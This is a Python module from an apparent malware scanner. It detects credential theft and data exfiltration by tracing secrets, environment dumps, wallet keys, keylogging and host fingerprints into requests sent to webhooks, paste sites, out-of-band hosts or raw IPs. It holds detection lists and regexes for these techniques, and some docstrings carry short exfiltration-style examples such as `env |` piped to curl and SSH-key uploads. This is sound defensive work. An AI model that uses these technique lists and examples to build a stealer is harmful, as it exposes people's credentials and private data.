"""Exfiltration and credential-theft rules (DOU5xx): what is read (secrets, stores, fingerprints) and
where it is sent (fixed foreign destinations), and the data flow that joins the two.

Reading a credential store and sending data over the network are each everyday in client
libraries. What marks a stealer is the *flow*: the environment, a token, a wallet file or the
host name goes into a request whose destination is fixed in the code and foreign (a webhook,
a paste site, a request catcher, a raw IP). The single-capability rules here are INFO/LOW; the
destination and flow rules (DOU510, DOU511) carry the weight.

Flow is followed with a small, flow-insensitive taint pass over each function (and the module
top level): assignments, loops, ``with`` targets, container mutation (``x.append(t)``) and
function summaries (a function that returns a secret; a helper that posts its argument to a
fixed URL). It is deliberately simple: enough for the shapes malware takes, cheap enough to
run on every file that holds a URL.
"""

from __future__ import annotations

import ast
import base64
import binascii
import re
import weakref
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from functools import lru_cache
from itertools import repeat

from douane.analysis import indicators as ind
from douane.analysis.context import (
    FileContext,
    PyContext,
    RecentTrees,
    Words,
    child_nodes,
    const_str,
    walk_order,
)
from douane.analysis.interface import (
    Anchored,
    FileType,
    Hit,
    Tag,
    all_of,
    anchored,
    gated,
    standalone,
)
from douane.analysis.process import EXEC_NAMES, HOLE, command_of, is_exec_call, loose_str
from douane.analysis.pyapi import matches, tail, written_names
from douane.analysis.registry import file_rule, node_rule
from douane.domain import Confidence, Family, Severity, Where

# -- vocabulary ------------------------------------------------------------------------------

ENVIRON = frozenset({"os.environ", "os.environb", "posix.environ"})
_ENV_DUMP_WRAPPERS = frozenset({"dict", "str", "repr", "list", "tuple", "set", "sorted",
                                "json.dumps", "json.dump", "pickle.dumps", "yaml.dump",
                                "yaml.safe_dump", "pprint.pformat", "urllib.parse.urlencode",
                                "copy.copy", "copy.deepcopy", "base64.b64encode"})  # fmt: skip
_ENV_DUMP_METHODS = frozenset({"copy", "items", "keys", "values", "__repr__", "__str__"})
_ENV_SINGLE = frozenset({"os.getenv", "os.environ.get", "os.getenvb", "os.environ.__getitem__"})

FINGERPRINT_CALLS = {
    "socket.gethostname": "host name",
    "socket.getfqdn": "host name",
    "platform.node": "host name",
    "os.uname": "system name",
    "platform.uname": "system name",
    "getpass.getuser": "user name",
    "os.getlogin": "user name",
    "uuid.getnode": "MAC address",
    "psutil.users": "logged-in users",
    "win32api.GetUserName": "user name",
    "win32api.GetComputerName": "host name",
}
FINGERPRINT_ENV = re.compile(r"^(USER|USERNAME|LOGNAME|USERDOMAIN|COMPUTERNAME|HOSTNAME|HOST|"
                             r"USERPROFILE)$")  # fmt: skip
SECRET_ENV = re.compile(r"(TOKEN|SECRET|PASSW|PASSWD|PWD|API_?KEY|ACCESS_?KEY|PRIVATE|CREDENTIAL|"
                        r"AUTH|SESSION|COOKIE|WEBHOOK)", re.IGNORECASE)  # fmt: skip
KEY_NAMES = re.compile(r"^_?(private_?key|priv_?key|secret_?key|mnemonic|mnemonic_?phrase|"
                       r"seed_?phrase|seed_?words|recovery_?phrase|wallet_?key|keypair|"
                       r"wallet_?secret|wif)s?$", re.IGNORECASE)  # fmt: skip
CLIPBOARD_READ = frozenset({"pyperclip.paste", "win32clipboard.GetClipboardData", "clipboard.paste",
                            "pyperclip3.paste", "klembord.get", "xerox.paste",
                            "tkinter.Tk.clipboard_get", "PyQt5.QtWidgets.QApplication.clipboard",
                            "win32clipboard.GetClipboardDataHandle"})  # fmt: skip
CLIPBOARD_WRITE = frozenset({"pyperclip.copy", "win32clipboard.SetClipboardText",
                             "win32clipboard.SetClipboardData", "clipboard.copy", "pyperclip3.copy",
                             "klembord.set", "xerox.copy"})  # fmt: skip
_CLIPBOARD_MODULES = ("pyperclip", "pyperclip3", "win32clipboard", "clipboard", "klembord", "xerox")
SCREENSHOT = frozenset({"PIL.ImageGrab.grab", "ImageGrab.grab", "pyautogui.screenshot",
                        "pyscreenshot.grab", "mss.mss", "mss.MSS", "d3dshot.create",
                        "PIL.ImageGrab.grabclipboard"})  # fmt: skip
KEYLOG = frozenset({"pynput.keyboard.Listener", "keyboard.on_press", "keyboard.on_release",
                    "keyboard.hook", "keyboard.record", "pyxhook.HookManager",
                    "win32api.GetAsyncKeyState", "ctypes.windll.user32.GetAsyncKeyState",
                    "ctypes.windll.user32.SetWindowsHookExA",
                    "ctypes.windll.user32.SetWindowsHookExW", "pyHook.HookManager",
                    "pynput.keyboard.Listener.start"})  # fmt: skip
DECRYPT_STORE = frozenset({"win32crypt.CryptUnprotectData", "ctypes.windll.crypt32.CryptUnprotectData",
                           "CryptUnprotectData"})  # fmt: skip
IMDS_HOSTS = ("169.254.169.254", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254")

# out-of-band interaction hosts: a request there only ever reports back to a tester or attacker
OOB_SUFFIXES = frozenset({"oast.fun", "oast.live", "oast.me", "oast.online", "oast.pro", "oast.site",
                          "oastify.com", "interact.sh", "burpcollaborator.net", "canarytokens.com",
                          "canarytokens.org", "ceye.io", "dnslog.cn", "dnslog.link", "dig.pm",
                          "requestrepo.com", "xss.ht", "bxss.in", "eyes.sh", "webhook.site",
                          "requestcatcher.com", "iplogger.org", "iplogger.com", "grabify.link",
                          "2no.co"})  # fmt: skip

_SEND_TAILS = frozenset({"post", "put", "patch"})
_HTTP_MODULES = ("requests.", "httpx.", "urllib3.", "aiohttp.", "urllib.request.", "urllib2.",
                 "urllib.", "http.client.", "pycurl.", "treq.", "grequests.")  # fmt: skip
_DATA_KWS = frozenset({"data", "json", "files", "params", "body", "content", "fields"})
_SKIP_KWS = frozenset({"headers", "auth", "timeout", "verify", "cookies", "proxies", "cert",
                       "allow_redirects", "stream", "method", "url"})  # fmt: skip
_WEBHOOK_CLIENTS = frozenset({"DiscordWebhook", "Webhook", "SyncWebhook", "AsyncWebhook",
                              "from_url", "partial"})  # fmt: skip
_TELEGRAM_SENDS = frozenset({"send_message", "send_document", "send_photo", "send_file",
                             "sendMessage", "sendDocument", "sendPhoto", "send_video"})  # fmt: skip
_TELEGRAM_TOKEN = re.compile(r"^\d{6,12}:[A-Za-z0-9_-]{30,}$")
_PATH_BUILDERS = frozenset({"os.path.join", "pathlib.Path", "pathlib.PurePath", "Path",
                            "os.path.expanduser", "os.path.expandvars", "os.path.abspath",
                            "os.path.normpath", "os.path.realpath", "os.path.dirname",
                            "pathlib.PureWindowsPath", "pathlib.PurePosixPath", "os.fspath",
                            "str", "joinpath", "expanduser", "resolve", "absolute"})  # fmt: skip
_PATH_CHECKS = frozenset({"os.path.exists", "os.path.isfile", "os.path.isdir", "os.path.getsize",
                          "os.path.getmtime", "os.access", "os.stat", "os.path.islink",
                          "os.makedirs", "os.mkdir", "os.remove", "os.unlink", "print",
                          "exists", "is_file", "is_dir", "mkdir", "stat", "unlink", "len",
                          "isinstance", "bool", "logging.debug", "logging.info"})  # fmt: skip
_SANITIZERS = frozenset({"sign", "sign_transaction", "sign_message", "sign_typed_data",
                         "signTransaction", "sign_msg", "hexdigest", "digest", "len", "bool",
                         "int", "float", "isinstance", "hasattr", "type", "id", "hash",
                         "uuid3", "uuid5", "exists", "isfile", "isdir", "startswith",
                         "endswith", "count", "sleep", "print", "any", "all"})  # fmt: skip
_RECON_CMDS = re.compile(r"^\s*(whoami|hostname|id|uname(\s+-\w+)?|ipconfig(\s+/all)?|ifconfig|"
                         r"systeminfo|net\s+user|hostnamectl|ip\s+a(ddr)?)\s*$", re.IGNORECASE)  # fmt: skip
_ENV_CMDS = re.compile(r"^\s*(env|printenv|set|export\s+-p)\s*$", re.IGNORECASE)

FINGERPRINT, NAMED_SECRET, STRONG = 1, 2, 3
_LEVEL_WORD = {FINGERPRINT: "system details", NAMED_SECRET: "a secret", STRONG: "secrets"}


@dataclass(frozen=True, slots=True)
class Taint:
    """What a value carries: how bad it is to leak (``level``; 0 = only a function parameter),
    a reviewer's label, and which parameters of the enclosing function flow into it."""

    level: int
    label: str
    params: frozenset[str] = frozenset()

    def __or__(self, other: Taint | None) -> Taint:
        if other is None:
            return self
        best = self if self.level >= other.level else other
        return Taint(best.level, best.label, self.params | other.params)


def _join(taints: Iterable[Taint | None]) -> Taint | None:
    out: Taint | None = None
    for t in taints:
        if t is not None:
            out = t if out is None else out | t
    return out


@dataclass
class Send:
    """A place where data may leave: an HTTP request, a webhook client, a curl in a shell."""

    node: ast.AST
    api: str
    url: str  # as written, non-constant parts shown as …
    kind: str | None  # indicators.URL_KINDS or None (an ordinary host)
    host: str
    fixed: bool  # the destination is in the code, not configuration
    carries_data: bool  # POST-like, or data/params attached, or data in the URL or host
    data: list[ast.AST] = field(default_factory=list)
    inline: Taint | None = None  # what a shell command substitutes in ($(whoami), @~/.ssh/...)
    via: str | None = None  # helper function name, for sends through a helper
    dead_drop: bool = False  # the real URL is read at run time from this fixed place

    @property
    def oob(self) -> bool:
        return any(self.host == s or self.host.endswith("." + s) for s in OOB_SUFFIXES)


# -- per-file facts: aliases/constants over the whole module, scopes, sends, taint ----------


@dataclass
class Facts:
    ctx: PyContext  # a private context whose aliases/consts cover the whole module
    scope_of: dict[int, ast.AST]  # id(node) -> innermost function (or the module)
    guarded: set[int]  # ids of nodes under `if __name__ == "__main__":`
    scopes: list[ast.AST]
    by_scope: dict[int, list[ast.AST]]
    calls: list[ast.Call]  # every call of the module, in ast.walk order
    sends: list[Send] = field(default_factory=list)
    flows: list[tuple[Send, Taint]] = field(default_factory=list)
    strong_reads: list[tuple[ast.AST, str]] = field(default_factory=list)
    telegram_fixed: bool = False


_FACTS: RecentTrees[Facts] = RecentTrees()  # facts hold their tree: not weak-keyed
_SCOPES = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)
_SCOPE_TYPES = frozenset(_SCOPES)


def _prescan(ctx: PyContext) -> Facts:
    """One source-order walk: import aliases, string constants, and the scope of every node."""
    pctx = PyContext(ctx.file, ctx.tree)
    scope_of: dict[int, ast.AST] = {}
    guarded: set[int] = set()
    by_scope: dict[int, list[ast.AST]] = {id(ctx.tree): []}
    scopes: list[ast.AST] = [ctx.tree]
    calls: list[tuple[int, ast.Call]] = []  # pre-order; sorted by depth (stably): ast.walk's order
    stack: list[tuple[ast.AST, ast.AST, bool, int]] = [(ctx.tree, ctx.tree, False, 0)]
    pop, push = stack.pop, stack.extend
    while stack:
        node, scope, guard, depth = pop()
        t = type(node)  # parsed trees hold exact node types
        if t is ast.Call:
            calls.append((depth, node))
        scope_of[id(node)] = scope
        by_scope[id(scope)].append(node)
        if guard:
            guarded.add(id(node))
        if t is ast.Import:
            for a in node.names:
                if a.asname:
                    pctx.aliases[a.asname] = a.name
                else:
                    head = a.name.split(".", 1)[0]
                    pctx.aliases.setdefault(head, head)
        elif t is ast.ImportFrom:
            if node.module and node.level == 0:
                for a in node.names:
                    pctx.aliases[a.asname or a.name] = f"{node.module}.{a.name}"
        elif t is ast.Assign and len(node.targets) == 1:
            target = node.targets[0]
            if isinstance(target, ast.Name):
                value = fold(node.value, pctx.consts)
                if value is not None:
                    pctx.consts[target.id] = value
                elif isinstance(node.value, ast.Name | ast.Attribute):
                    q = pctx.qualname(node.value)
                    if q and "." in q:
                        pctx.aliases[target.id] = q
        child_scope = scope
        if t in _SCOPE_TYPES:
            child_scope = node
            by_scope[id(node)] = []
            scopes.append(node)
        depth += 1
        children = child_nodes(node)
        if t is ast.If and (guard or _is_main_guard(node)):
            # under the guard (or an `if` inside it): its body, not its test
            test = node.test
            push((c, child_scope, c is not test, depth) for c in reversed(children))
        else:
            push(zip(reversed(children), repeat(child_scope), repeat(guard), repeat(depth)))
    calls.sort(key=lambda c: c[0])
    return Facts(pctx, scope_of, guarded, scopes, by_scope, [c for _, c in calls])


def fold(node: ast.AST | None, consts: dict[str, str]) -> str | None:
    """Constant value of a string expression, also through ``"…{}".format(CONST)`` and
    ``"…%s" % CONST`` (which the shared folder reads as their template only)."""
    if (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
    ):
        template = const_str(node.func.value, consts)
        args = [const_str(a, consts) for a in node.args]
        kwargs = {k.arg: const_str(k.value, consts) for k in node.keywords if k.arg}
        if template is not None and None not in args and None not in kwargs.values():
            try:
                return template.format(*args, **kwargs)
            except (IndexError, KeyError, ValueError):
                return None
        return None
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        template = const_str(node.left, consts)
        right = node.right
        args = (
            [const_str(e, consts) for e in right.elts]
            if isinstance(right, ast.Tuple)
            else [const_str(right, consts)]
        )
        if template is not None and None not in args:
            try:
                return template % tuple(args)
            except (TypeError, ValueError):
                return None
        return None
    if isinstance(node, ast.Call):
        if (
            isinstance(node.func, ast.Attribute)
            and node.func.attr in ("decode", "strip", "encode")
            and not node.args[1:]
        ):
            inner = node.func.value
            if isinstance(inner, ast.Call):
                decoded = _decoded(inner, consts)
                if decoded is not None:
                    return decoded
        decoded = _decoded(node, consts)
        if decoded is not None:
            return decoded
    return const_str(node, consts)


_B64 = frozenset({"base64.b64decode", "base64.b32decode", "base64.b16decode", "base64.urlsafe_b64decode",
                  "base64.decodebytes", "binascii.unhexlify", "binascii.a2b_base64", "bytes.fromhex",
                  "base64.b85decode", "codecs.decode"})  # fmt: skip


def _decoded(node: ast.Call, consts: dict[str, str]) -> str | None:
    """``base64.b64decode("aHR0cHM6Ly8…")``: malware hides its URLs; decoding a constant is
    reading, not running. Only printable results count."""
    name = _qual_simple(node.func)
    t = tail(name)
    if name not in _B64 and t not in ("b64decode", "urlsafe_b64decode", "unhexlify", "fromhex"):
        return None
    raw = const_str(node.args[0], consts) if node.args else None
    if raw is None or len(raw) > 4096:
        return None
    try:
        if t in ("b64decode", "urlsafe_b64decode", "decodebytes", "a2b_base64"):
            alt = b"-_" if "urlsafe" in t else None
            out = base64.b64decode(raw + "=" * (-len(raw) % 4), altchars=alt)
        elif t == "b32decode":
            out = base64.b32decode(raw)
        elif t in ("b16decode", "unhexlify", "fromhex"):
            out = bytes.fromhex(raw)
        elif t == "b85decode":
            out = base64.b85decode(raw)
        else:
            return None
    except (ValueError, binascii.Error):
        return None
    text = out.decode("latin-1")
    return text if text.isprintable() else None


def _qual_simple(node: ast.AST) -> str:
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
    return ".".join(reversed(parts))


def url_text(node: ast.AST, ctx: PyContext, depth: int = 0) -> str | None:
    """A URL expression as text: constants folded (format, %, base64 of a constant), variable
    parts as ``…``."""
    value = fold(node, ctx.consts)
    if value is not None or depth > 6:
        return value
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = url_text(node.left, ctx, depth + 1), url_text(node.right, ctx, depth + 1)
        if left is None and right is None:
            return None
        return (left or HOLE) + (right or HOLE)
    return loose_str(node, ctx)


def _local_value(name: str, scope: ast.AST, before: ast.AST, tree: ast.AST) -> ast.AST | None:
    """The expression last assigned to ``name`` in ``scope`` (a part of ``tree``) before the
    line of ``before``."""
    line = getattr(before, "lineno", 0)
    best = None
    for n in _assignments(tree, scope).get(name, ()):
        if n.lineno <= line and (best is None or n.lineno >= best.lineno):
            best = n
    return best.value if best is not None else None


# per tree, per scope: its `name = value` statements by name
_ASSIGNMENTS: RecentTrees[dict[int, tuple[ast.AST, dict[str, list[ast.Assign]]]]] = RecentTrees()


def _assignments(tree: ast.AST, scope: ast.AST) -> dict[str, list[ast.Assign]]:
    """`name = value` statements anywhere in ``scope``, by name, in ast.walk's order: built
    once per scope (each send with a variable URL asked for them by walking the scope)."""
    scopes = _ASSIGNMENTS.get(tree)
    if scopes is None:
        scopes = {}
        _ASSIGNMENTS[tree] = scopes
    entry = scopes.get(id(scope))
    if entry is not None and entry[0] is scope:
        return entry[1]
    out: dict[str, list[ast.Assign]] = {}
    for n in ast.walk(scope):
        if isinstance(n, ast.Assign) and len(n.targets) == 1 and isinstance(n.targets[0], ast.Name):
            out.setdefault(n.targets[0].id, []).append(n)
    scopes[id(scope)] = (scope, out)
    return out


def _is_main_guard(node: ast.If) -> bool:
    t = node.test
    return (
        isinstance(t, ast.Compare)
        and isinstance(t.left, ast.Name)
        and t.left.id == "__name__"
        and len(t.comparators) == 1
        and isinstance(t.comparators[0], ast.Constant)
        and t.comparators[0].value == "__main__"
    )


def where_of(facts: Facts, node: ast.AST) -> Where:
    """When ``node`` runs, by the engine's conventions (module-level rules report deep nodes)."""
    base = facts.ctx.file.where
    if base in (Where.INSTALL, Where.TEST):
        return base
    if id(node) in facts.guarded or facts.scope_of.get(id(node)) is not facts.ctx.tree:
        return Where.FUNCTION
    return base


def _name_of(expr: ast.AST) -> str | None:
    """Dotted text of a Name/Attribute chain (``self.tokens``), the key of a tainted value."""
    parts = []
    while isinstance(expr, ast.Attribute):
        parts.append(expr.attr)
        expr = expr.value
    if isinstance(expr, ast.Name):
        parts.append(expr.id)
        return ".".join(reversed(parts))
    return None


# -- destinations ----------------------------------------------------------------------------

_URL_HEAD = re.compile(r"(?is)^\s*(https?|wss?|ftp)://([^/?#]*)(.*)$")
_LOCAL_HOST = re.compile(r"(^|\.)(localhost|local|internal|lan|home|localdomain|svc|cluster)$|"
                         r"^(\d+\.){3}\d+$|^\[|^[^.]*$")  # fmt: skip


@lru_cache(maxsize=8192)
def destination(text: str) -> tuple[str | None, str, bool, bool]:
    """(kind, host, fixed, data_in_host) of a URL written with ``…`` for its variable parts."""
    m = _URL_HEAD.match(text)
    if not m:
        return None, "", False, False
    scheme, hostport, rest = m.groups()
    if HOLE in hostport:  # f"https://{data}.abc.oast.fun" or f"https://{host}/x"
        tail_part = hostport.rsplit(HOLE, 1)[1].lstrip(".-").split(":")[0].lower()
        if tail_part.count(".") < 1:
            return None, "", False, False
        kind = ind.host_kind(tail_part)
        if kind not in ind.DROP_KINDS:
            return None, tail_part, False, False
        return kind, tail_part, True, True
    clean = f"{scheme}://{hostport}{rest.split(HOLE, 1)[0]}"
    host = ind.url_host(clean) or ""
    kind = ind.url_kind(f"{scheme}://{hostport}{rest}")
    if kind == ind.WEBHOOK:
        return kind, host, _webhook_fixed(host, rest), False
    if kind == ind.RAW_IP and host in ind.PUBLIC_RESOLVERS:
        kind = None
    if kind is not None:
        return kind, host, True, False
    if ind.is_public_ip(host) and host not in ind.PUBLIC_RESOLVERS:
        return ind.RAW_IP, host, True, False
    if not host or _LOCAL_HOST.search(host) or any(h in host for h in IMDS_HOSTS):
        return None, host, False, False
    return None, host, True, False


def _webhook_fixed(host: str, path: str) -> bool:
    """A webhook is fixed only if its secret part is in the code, not just the service's host."""
    segs = path.split("?", 1)[0].split("/")[1:]
    if "telegram" in host:  # /bot<id>:<secret>/…: the token itself must be written out
        first = segs[0] if segs else ""
        return HOLE not in first and bool(re.match(r"^bot\d{6,12}:[\w-]{20,}$", first))
    elif "discord" in host:
        need = 4 if segs[:1] == ["api"] and (len(segs) < 2 or segs[1] == "webhooks") else 5
    elif "slack" in host:
        need = 4
    else:
        need = 2
    head = segs[:need]
    return len(head) == need and all(s and HOLE not in s for s in head)


def _url_arg(call: ast.Call, position: int = 0) -> ast.AST | None:
    for kw in call.keywords:
        if kw.arg in ("url", "uri", "webhook_url", "endpoint"):
            return kw.value
    return call.args[position] if len(call.args) > position else None


def _http_send(call: ast.Call, facts: Facts) -> Send | None:
    ctx = facts.ctx
    name = ctx.call_name(call) or ""
    t = tail(name)
    qualified = name.startswith(_HTTP_MODULES)
    url_node: ast.AST | None
    hook_client = t == "DiscordWebhook" or (
        t in _WEBHOOK_CLIENTS and name.startswith(("discord_webhook", "dhooks", "discord."))
    )
    if hook_client:
        url_node = _url_arg(call)
        posting = True
    elif t in _SEND_TAILS or t in ("get", "head", "delete", "options"):
        if not qualified and t not in _SEND_TAILS and t != "get":
            return None
        url_node = _url_arg(call)
        posting = t in _SEND_TAILS
    elif t in ("request", "urlopen", "Request", "fetch", "open_url", "stream"):
        if t == "request" and len(call.args) >= 2:
            url_node = _url_arg(call, 1)
            method = (ctx.const_str(call.args[0]) or "").upper()
            posting = method in ("POST", "PUT", "PATCH")
        else:
            url_node = _url_arg(call)
            posting = len(call.args) >= 2 and t in ("urlopen", "Request")
        if t == "urlopen" and call.args and isinstance(call.args[0], ast.Call):
            return None  # urlopen(Request(...)): the Request is the send
    else:
        if not (
            t[:1].isupper() or t in _WEBHOOK_CLIENTS or re.search(r"hook|send|post|notify", t, re.I)
        ):
            return None  # `base_url.startswith("https://api.telegram.org/bot")` is no client
        url_node = _url_arg(call)
        literal = fold(url_node, ctx.consts) if url_node is not None else None
        if not literal or ind.url_kind(literal) != ind.WEBHOOK:
            return None
        hook_client, posting = True, True  # any client built on a literal webhook URL
    if url_node is None:
        return None
    dead_drop = _dead_drop(url_node, facts, call)
    if dead_drop is not None:
        kind, host, where_from = dead_drop
        data = [a for a in call.args if a is not url_node] + [
            k.value for k in call.keywords if k.arg not in _SKIP_KWS
        ]
        return Send(
            call,
            name or t,
            f"(a URL read from {where_from})",
            kind,
            host,
            True,
            True,
            data,
            dead_drop=True,
        )
    url = url_text(url_node, ctx)
    if url is None and isinstance(url_node, ast.Name):  # url = decode(...) + f"?h={host}"
        bound = _local_value(
            url_node.id, facts.scope_of.get(id(call), facts.ctx.tree), call, facts.ctx.tree
        )
        url = url_text(bound, ctx) if bound is not None else None
    if url and "://" not in url[:12] and HOLE not in url and "/" not in url.split(".", 1)[0]:
        if ind.host_kind(url.split("/", 1)[0].split(":", 1)[0]) in ind.DROP_KINDS:
            url = "http://" + url  # requests.get("x.oastify.com", params=...): scheme left out
    if not url or "://" not in url[:12]:
        return None
    if not qualified and not hook_client and t not in ("urlopen", "Request"):
        # an unresolved `session.post(...)`: count it only with a literal URL
        if not url.lower().startswith(("http://", "https://")):
            return None
    kind, host, fixed, data_in_host = destination(url)
    data = [a for a in call.args if a is not url_node]
    data += [kw.value for kw in call.keywords if kw.arg not in _SKIP_KWS]
    has_data = any(kw.arg in _DATA_KWS for kw in call.keywords) or (posting and bool(data))
    url_holes = HOLE in url
    if url_holes:
        data.append(url_node)
    return Send(
        node=call,
        api=name or t,
        url=url,
        kind=kind,
        host=host,
        fixed=fixed,
        carries_data=posting or has_data or data_in_host or (url_holes and _holes_carry(url, kind)),
        data=data,
    )


def _dead_drop(
    node: ast.AST, facts: Facts, call: ast.Call, depth: int = 0
) -> tuple[str, str, str] | None:
    """A destination fetched at run time from a paste site or similar drop
    (``requests.post(requests.get(PASTE).text, …)``): the real URL is hidden, the place it is
    read from is fixed."""
    if depth > 4:
        return None
    if isinstance(node, ast.Name):
        bound = _local_value(
            node.id, facts.scope_of.get(id(call), facts.ctx.tree), call, facts.ctx.tree
        )
        return _dead_drop(bound, facts, call, depth + 1) if bound is not None else None
    if isinstance(node, ast.Attribute):
        return _dead_drop(node.value, facts, call, depth + 1)
    if not isinstance(node, ast.Call):
        return None
    name = facts.ctx.call_name(node)
    t = node.func.attr if isinstance(node.func, ast.Attribute) else tail(name)
    if isinstance(node.func, ast.Attribute) and t in (
        "decode",
        "strip",
        "read",
        "json",
        "rstrip",
        "text",
    ):
        return _dead_drop(node.func.value, facts, call, depth + 1)
    if t in ("get", "urlopen") and node.args:
        url = fold(node.args[0], facts.ctx.consts)
        kind = ind.url_kind(url) if url else None
        if url and kind in (
            ind.PASTE,
            ind.MOCK_API,
            ind.FILE_HOST,
            ind.TUNNEL,
            ind.RAW_IP,
            ind.DYNDNS,
        ):
            return kind, ind.url_host(url) or "", url[:80]
    return None


def _holes_carry(url: str, kind: str | None) -> bool:
    """Whether the variable parts of a GET's URL carry data out, rather than name what to fetch
    (`pastebin.com/raw/{id}` is a download; `x.oast.fun/?h={host}` is a report)."""
    if kind in ind.CALLBACK_KINDS or kind in (None, ind.RAW_IP):
        return True
    query = url.split("?", 1)[1] if "?" in url else ""
    return HOLE in query


_CURL = re.compile(r"\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b", re.IGNORECASE)
_CURL_DATA = re.compile(r"(\s-(d|F|T|X\s*POST|-data[\w-]*|-form|-upload-file|-post-(data|file))\b|"
                        r"-Method\s+Post|-Body\b|-InFile\b)", re.IGNORECASE)  # fmt: skip
_SUBST = re.compile(r"\$\(([^()]{1,200})\)|`([^`]{1,200})`|@(\S+)|--upload-file[ =](\S+)|"
                    r"\s-T\s+(\S+)|--post-file=(\S+)|-InFile\s+(\S+)")  # fmt: skip
_VAR_FP = re.compile(r"\$\{?(USER|HOSTNAME|HOME|LOGNAME)\b|%(USERNAME|COMPUTERNAME|USERDOMAIN)%")
_PIPE_ENV = re.compile(r"\b(env|printenv)\s*\|\s*(curl|wget|nc|base64)\b", re.IGNORECASE)


def command_taint(cmd: str) -> Taint | None:
    """What a shell command line slips into a request: ``$(whoami)``, ``@~/.ssh/id_rsa``, ``env |``."""
    out: Taint | None = None
    if _PIPE_ENV.search(cmd):
        out = Taint(STRONG, "the whole environment (`env`)")
    for m in _SUBST.finditer(cmd):
        inner = next(g for g in m.groups() if g)
        inner = inner.strip("'\"")
        t = None
        if _ENV_CMDS.match(inner):
            t = Taint(STRONG, "the whole environment (`env`)")
        elif _RECON_CMDS.match(inner):
            t = Taint(FINGERPRINT, f"`{inner.strip()}` output")
        else:
            target = inner[4:] if inner.startswith("cat ") else inner
            sp = ind.sensitive_paths(target.strip())
            if sp:
                t = Taint(STRONG, sp[0].label)
            elif inner.startswith(("cat ", "curl ", "wget ")) or m.group(3) or m.group(4):
                t = Taint(FINGERPRINT, "a local file or command output")
        out = _join([out, t])
    if _VAR_FP.search(cmd):
        out = _join([out, Taint(FINGERPRINT, "user and host names")])
    return out


def _shell_send(call: ast.Call, facts: Facts) -> Send | None:
    name = facts.ctx.call_name(call)
    if not is_exec_call(name):
        return None
    cmd = command_of(call, facts.ctx)
    if not cmd or not _CURL.search(cmd):
        return None
    urls = ind.find_urls(cmd)
    if not urls:
        return None
    url = urls[-1]
    kind, host, fixed, data_in_host = destination(url)
    inline = command_taint(cmd)
    data = [a for a in call.args]
    return Send(
        node=call,
        api=f"{name} (curl/wget)",
        url=url,
        kind=kind,
        host=host,
        fixed=fixed,
        carries_data=bool(_CURL_DATA.search(cmd)) or inline is not None or data_in_host,
        data=data,
        inline=inline,
    )


_HOOK_METHODS = frozenset(
    {"send", "execute", "post", "add_file", "add_embed", "send_message", "edit"}
)


def _hook_object_sends(facts: Facts, calls: list[ast.Call]) -> Iterator[Send]:
    """``hook = Webhook.from_url(URL)`` … ``hook.send(content=data)``: the data goes in the
    method call on the object, not in the call that names the URL."""
    bound: dict[str, Send] = {}
    by_call = {id(s.node): s for s in facts.sends if s.kind == ind.WEBHOOK and s.fixed}
    if not by_call:
        return
    for node in walk_order(facts.ctx.tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and id(node.value) in by_call:
            key = _name_of(node.targets[0])
            if key:
                bound[key] = by_call[id(node.value)]
    for call in calls:
        if isinstance(call.func, ast.Attribute) and call.func.attr in _HOOK_METHODS:
            base = bound.get(_name_of(call.func.value) or "")
            if base is not None:
                data = [*call.args, *(k.value for k in call.keywords)]
                yield Send(
                    call,
                    f"{base.api} … .{call.func.attr}",
                    base.url,
                    base.kind,
                    base.host,
                    True,
                    True,
                    data,
                )


def _socket_dest(node: ast.AST, facts: Facts) -> tuple[str, str] | None:
    """(host, port) of a literal ``(HOST, PORT)`` address tuple."""
    if not (isinstance(node, ast.Tuple) and len(node.elts) == 2):
        return None
    host = fold(node.elts[0], facts.ctx.consts)
    port = node.elts[1]
    port_text = (
        str(port.value)
        if isinstance(port, ast.Constant)
        else (facts.ctx.consts.get(getattr(port, "id", "")) or "?")
    )
    return (host, port_text) if host else None


def _socket_sends(facts: Facts, calls: list[ast.Call]) -> Iterator[Send]:
    """Raw-socket sends: ``s.connect((HOST, PORT))`` then ``s.send(data)`` in the same function,
    or ``s.sendto(data, (HOST, PORT))``."""
    connected: dict[int, tuple[str, str]] = {}
    for call in calls:
        t = call.func.attr if isinstance(call.func, ast.Attribute) else None
        if t in ("connect", "connect_ex") and call.args:
            dest = _socket_dest(call.args[0], facts)
            if dest:
                connected[id(facts.scope_of.get(id(call)))] = dest
    for call in calls:
        t = call.func.attr if isinstance(call.func, ast.Attribute) else None
        dest = None
        if t == "sendto" and len(call.args) >= 2:
            dest = _socket_dest(call.args[-1], facts)
        elif t in ("send", "sendall") and call.args:
            dest = connected.get(id(facts.scope_of.get(id(call))))
        if not dest:
            continue
        host, port = dest
        kind, fixed = None, True
        if host in ind.PUBLIC_RESOLVERS:
            continue
        if ind.is_public_ip(host):
            kind = ind.RAW_IP
        elif _LOCAL_HOST.search(host.lower()) or any(h in host for h in IMDS_HOSTS):
            fixed = False
        else:
            kind = ind.host_kind(host)
        yield Send(
            call,
            f"socket.{t}",
            f"tcp://{host}:{port}",
            kind,
            host,
            fixed,
            True,
            list(call.args[:1]),
        )


def _telegram_bot(call: ast.Call, facts: Facts) -> bool:
    """A Telegram bot built with a token written in the code (``TeleBot("123:AA…")``)."""
    t = tail(facts.ctx.call_name(call))
    if t not in ("TeleBot", "Bot", "Updater", "token", "AsyncTeleBot", "Client"):
        return False
    for arg in [
        *call.args[:1],
        *(k.value for k in call.keywords if k.arg in ("token", "bot_token")),
    ]:
        value = facts.ctx.const_str(arg)
        if value and _TELEGRAM_TOKEN.match(value.strip()):
            return True
    return False


# -- sources ---------------------------------------------------------------------------------


class _Tainter:
    """Taint of expressions in one scope, given what names hold and which functions return."""

    def __init__(self, facts: Facts, names: dict[str, Taint], paths: dict[str, str],
                 returns: dict[str, Taint]) -> None:  # fmt: skip
        self.f = facts
        self.ctx = facts.ctx
        self.names = names
        self.paths = paths
        self.returns = returns

    # path text -------------------------------------------------------------------------
    def path_label(self, expr: ast.AST | None, depth: int = 0) -> str | None:
